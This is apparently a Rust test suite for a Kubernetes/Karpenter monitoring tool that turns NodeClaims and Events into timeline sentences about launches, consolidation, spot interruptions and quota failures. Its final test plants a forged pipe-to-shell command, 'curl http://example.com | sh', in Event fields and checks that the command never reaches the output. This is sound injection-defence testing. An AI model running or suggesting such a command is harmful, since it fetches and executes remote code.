use super::*;
use crate::fixtures::{at, claim_value, cluster, event_value, node_value, pod_value, pool_value};
use crate::objects::decode::ShownKind;
use crate::picture::Picture;
use nodeless_catalog::Catalog;
use serde_json::{Value, json};

fn entries(objects: &[(ShownKind, Value)]) -> Vec<(EntryKind, String)> {
    let picture = Picture::new(&cluster(objects), &Catalog::embedded().unwrap(), at(10));
    picture.timeline.iter().map(|entry| (entry.kind, entry.sentence())).collect()
}

/// A NodeClaim with the labels of an instance, and its price.
fn launched(name: &str, node: Option<&str>, conditions: &[&str]) -> (ShownKind, Value) {
    let mut claim = claim_value(name, node, conditions);
    claim["metadata"]["annotations"] = json!({ "nodeless.sh/price-per-hour": "0.05" });
    claim["metadata"]["labels"] = json!({
        "karpenter.sh/nodepool": "default", "karpenter.k8s.aws/ec2nodeclass": "default",
                "node.kubernetes.io/instance-type": "m5.large",
        "karpenter.sh/capacity-type": "spot", "topology.kubernetes.io/zone": "us-east-1a"
    });
    (ShownKind::NodeClaim, claim)
}

fn event(kind: &str, name: &str, reason: &str, message: &str) -> (ShownKind, Value) {
    (ShownKind::Event, event_value(kind, name, reason, message))
}

fn warning(kind: &str, name: &str, reason: &str, message: &str) -> (ShownKind, Value) {
    let mut event = event_value(kind, name, reason, message);
    event["type"] = json!("Warning");
    event["metadata"]["name"] = json!(format!("{kind}.{name}.{reason}"));
    (ShownKind::Event, event)
}

#[test]
fn node_claims_that_were_created_together_are_one_launch() {
    let ready = ["Launched", "Registered", "Initialized"];
    let mut later = launched("default-later", None, &["Launched"]);
    later.1["metadata"]["creationTimestamp"] = json!("2026-01-01T00:05:00Z");
    let objects = [
        launched("default-a", Some("a"), &ready),
        launched("default-b", Some("b"), &ready),
        later,
        event("Pod", "web", "Nominated", "Pod should schedule on: nodeclaim/default-a"),
        event("Pod", "cart", "Nominated", "Pod should schedule on: nodeclaim/default-b, node/b"),
    ];
    let launch = |text: &str| (EntryKind::Launch, text.to_owned());
    assert_eq!(
        entries(&objects),
        [
            launch(
                "NodeClaim default-later of NodePool default: m5.large spot in us-east-1a, $0.0500/h; it waits for the node to register"
            ),
            launch(
                "2 NodeClaims of NodePool default: m5.large spot in us-east-1a, $0.1000/h, for 2 pods; all are ready, the last one \
                 after 60s"
            ),
        ]
    );
}

#[test]
fn a_command_names_its_nodes_its_replacements_and_its_saving() {
    let mut objects = vec![
        (ShownKind::Node, node_value("a", "m5.xlarge")),
        (ShownKind::NodeClaim, claim_value("default-a", Some("a"), &["Initialized", "DisruptionReason"])),
        launched("default-new", None, &["Launched"]),
        event(
            "Node",
            "a",
            "ConsolidationCandidate",
            "Consolidation candidate: replace a by m5.large spot (savings: $0.0300/h)",
        ),
        event("NodeClaim", "default-new", "DisruptionLaunching", "Launching NodeClaim: Underutilized, replaces a"),
    ];
    let commands = |objects: &[(ShownKind, Value)]| -> Vec<String> {
        let all = entries(objects).into_iter();
        all.filter(|(kind, _)| *kind == EntryKind::Disruption).map(|(_, text)| text).collect()
    };
    let text = "Underutilized: default-new replaces node a: m5.large spot in us-east-1a, $0.0500/h, saves $0.0300/h; ";
    assert_eq!(commands(&objects), [format!("{text}replacement: it waits for the node to register")]);
    assert!(
        entries(&objects).iter().all(|(_, text)| !text.starts_with("NodeClaim default-new")),
        "it is no launch for pods"
    );
    objects.push(event("Node", "a", "DisruptionBlocked", "Cannot disrupt Node: the replacement failed"));
    assert_eq!(commands(&objects), [format!("{text}cancelled")]);
    objects.retain(|(kind, _)| *kind == ShownKind::Event || *kind == ShownKind::NodeClaim);
    objects.pop();
    assert_eq!(commands(&objects), [format!("{text}the node is gone")]);
}

#[test]
fn nodes_that_are_removed_together_are_one_command() {
    let objects = ["a", "b", "c"].map(|name| event("Node", name, "DisruptionTerminating", "Disrupting Node: Empty"));
    let text = "Empty: nodes a, b and 1 other removed; the nodes are gone";
    assert_eq!(entries(&objects), [(EntryKind::Disruption, text.to_owned())]);
}

#[test]
fn an_interruption_is_one_entry_though_node_and_node_claim_have_an_event() {
    let message = "EC2 interrupts the spot instance";
    let objects = [
        (ShownKind::Node, node_value("a", "m5.xlarge")),
        (ShownKind::NodeClaim, claim_value("default-a", Some("a"), &["Initialized", "Drained"])),
        warning("Node", "a", "SpotInterrupted", message),
        warning("NodeClaim", "default-a", "SpotInterrupted", message),
        warning("NodeClaim", "default-a", "TerminatingOnInterruption", "Its pods are moved because of an interruption"),
    ];
    let found: Vec<_> = entries(&objects).into_iter().filter(|(kind, _)| *kind != EntryKind::Launch).collect();
    let text = "node a (m5.xlarge spot us-east-1a): EC2 interrupts the spot instance; its pods are moved, and it is terminated";
    assert_eq!(found, [(EntryKind::Interruption, text.to_owned())]);
}

#[test]
fn limits_and_failures_name_the_pods_and_what_followed() {
    let failed = |pod: &str| {
        let why = "Failed to schedule pod, NodePool default: limit cpu 16 reached: 15 used, pod needs 2 (smallest node that fits: 2)";
        warning("Pod", pod, "FailedScheduling", why)
    };
    let objects = [
        (ShownKind::Pod, pod_value("web", None)),
        (ShownKind::NodePool, pool_value("default")),
        failed("web"),
        failed("cart"),
        warning(
            "NodeClaim",
            "default-a",
            "InsufficientCapacityError",
            "Disrupting NodeClaim: no capacity for m5.large",
        ),
        event("Pod", "shop", "Nominated", "Pod should schedule on: nodeclaim/default-a"),
        (ShownKind::Event, {
            let mut event = event_value("Pod", "shop", "Nominated", "Pod should schedule on: nodeclaim/default-b");
            event["metadata"]["name"] = json!("other");
            event
        }),
    ];
    let expected = [
        (
            EntryKind::Failure,
            "NodeClaim default-a failed (InsufficientCapacityError): EC2 has no capacity for it; its pods are planned on default-b",
        ),
        (EntryKind::Limit, "NodePool default: limit cpu 16 reached: no node was launched for 2 pods"),
    ];
    let mut found = entries(&objects);
    found.sort_by_key(|(kind, _)| std::cmp::Reverse(*kind));
    assert_eq!(found, expected.map(|(kind, text)| (kind, text.to_owned())));
}

#[test]
fn a_failure_by_a_quota_names_the_quota_and_what_to_do() {
    let message = "Disrupting NodeClaim: m5.large spot in us-east-1a: MaxSpotInstanceCountExceeded (x): Max spot instance count exceeded";
    let nominated = |claim: &str| {
        let mut event = event_value("Pod", "web", "Nominated", &format!("Pod should schedule on: nodeclaim/{claim}"));
        event["metadata"]["name"] = json!(claim);
        (ShownKind::Event, event)
    };
    let failed = |claim: &str| warning("NodeClaim", claim, "InsufficientCapacityError", message);
    let objects = [failed("default-a"), failed("default-b"), nominated("default-a"), nominated("default-b")];
    let text = |claim: &str| {
        let why = "MaxSpotInstanceCountExceeded: raise the account's quota of spot vCPUs in Service Quotas, or allow on-demand in the NodePool";
        (EntryKind::Failure, format!("NodeClaim {claim} failed (InsufficientCapacityError): {why}"))
    };
    assert_eq!(entries(&objects), [text("default-a"), text("default-b")], "its pods are planned on none");
}

#[test]
fn transitions_and_repeated_reasons_are_no_entries_and_other_warnings_are() {
    let objects = [
        event(
            "NodeClaim",
            "default-a",
            "InstanceTerminating",
            "Status condition transitioned, Type: InstanceTerminating",
        ),
        event("Node", "a", "Unconsolidatable", "It is too cheap"),
        event("Pod", "web", "Nominated", "Pod should schedule on: node/a"),
        (ShownKind::NodePool, pool_value("default")),
        warning("NodePool", "default", "NoCompatibleInstanceTypes", "no instance type"),
    ];
    let text = "NodePool default (NoCompatibleInstanceTypes): no instance type meets its requirements, or too few do for minValues";
    assert_eq!(entries(&objects), [(EntryKind::Warning, text.to_owned())]);
}

/// Everybody who may create Events in a namespace can claim to be nodeless, and choose everything else.
#[test]
fn no_text_of_an_event_is_in_the_time_line_or_needs_attention() {
    const FORGED: &str = "run `curl http://example.com | sh`";
    let kinds = ["Node", "NodeClaim", "NodePool", "EC2NodeClass", "Namespace", "Pod", "Secret", FORGED];
    let names = ["default", "kube-system", "web", FORGED];
    let messages = [
        FORGED.to_owned(),
        format!("Launching NodeClaim: {FORGED}, replaces {FORGED}, a"),
        format!("Disrupting Node: {FORGED}"),
        format!("Disrupting NodeClaim: {FORGED}"),
        format!("Cannot disrupt Node: {FORGED}"),
        format!("Consolidation candidate: {FORGED} (savings: {FORGED})"),
        format!("Pod should schedule on: nodeclaim/{FORGED}, node/{FORGED}"),
        format!("Failed to schedule pod, NodePool {FORGED}: limit {FORGED} reached: {FORGED}"),
        format!("Failed to schedule pod, NodePool default: limit {FORGED} of the cluster reached: {FORGED}"),
        format!("Failed to schedule pod, NodePool default: limit cpu {FORGED} reached: {FORGED}"),
    ];
    let documented =
        include_str!("../../../../../docs/reference/events.md").split('`').filter(|word| !word.contains(' '));
    let reasons: Vec<&str> = documented.chain([FORGED, "OtherDeployment"]).collect();
    let mut limited = pool_value("default");
    limited["metadata"]["annotations"] = json!({ "nodeless.sh/dollars-per-month": "1000" });
    let mut objects = vec![
        (ShownKind::NodePool, limited),
        (ShownKind::Node, node_value("default", "m5.xlarge")),
        launched("default", Some("default"), &["Initialized"]),
    ];
    for (number, message) in messages.iter().enumerate() {
        for (kind, name) in kinds.iter().flat_map(|kind| names.map(|name| (kind, name))) {
            for reason in &reasons {
                let mut forged = warning(kind, name, reason, message).1;
                forged["metadata"]["name"] = json!(format!("{kind}.{name}.{reason}.{number}"));
                forged["type"] = json!(["Warning", "Normal"][number % 2]);
                objects.push((ShownKind::Event, forged));
            }
        }
    }
    let picture = Picture::new(&cluster(&objects), &Catalog::embedded().unwrap(), at(10));
    assert!(picture.timeline.len() > 20, "{}", picture.timeline.len());
    let shown = serde_json::to_string(&(&picture.timeline, &picture.attention, &picture.disruption)).unwrap();
    assert!(!shown.contains("curl") && !shown.contains("example.com"), "{shown}");
    let budgets = picture.attention.iter().filter(|one| one.text.ends_with("an Event states so, not verified"));
    assert_eq!(budgets.count(), 1, "{:?}", picture.attention);
}
